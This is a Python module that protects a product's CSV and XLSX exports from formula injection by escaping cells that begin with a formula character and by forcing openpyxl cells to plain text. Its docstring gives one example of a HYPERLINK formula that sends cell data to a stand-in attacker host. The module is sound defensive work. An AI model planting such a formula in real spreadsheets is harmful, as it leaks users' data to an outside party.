"""Spreadsheet-safe exports: no cell of a CSV or XLSX file the product writes runs as a formula.

A holder's title ``=HYPERLINK("https://evil.example/?"&A1, "Click")`` opened in a spreadsheet
would run (formula injection, CSV injection). Every CSV export passes its text cells through
``spreadsheet_safe``; every XLSX export calls ``workbook_text_only`` before saving.
"""

from collections.abc import Iterable
from typing import Any

# A spreadsheet reads a cell starting with one of these as a formula (OWASP CSV injection).
FORMULA_STARTS: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(value: Any) -> Any:
    """Text that a spreadsheet will not run: a leading apostrophe before a formula start.
    Anything but text (numbers, dates, None) is returned unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def spreadsheet_safe_row(values: Iterable[Any]) -> list[Any]:
    return [spreadsheet_safe(v) for v in values]


def workbook_text_only(workbook: Any) -> None:
    """Make every text cell of an openpyxl ``workbook`` a string cell.

    openpyxl writes a string starting with ``=`` as a formula and ``#N/A`` as an error; here
    they become plain strings (``data_type`` "s", written as inline text) with the quote
    prefix set, so that the spreadsheet shows the text as typed and never evaluates it."""
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.data_type != "s":
                    cell.data_type = "s"
                    cell.quotePrefix = True
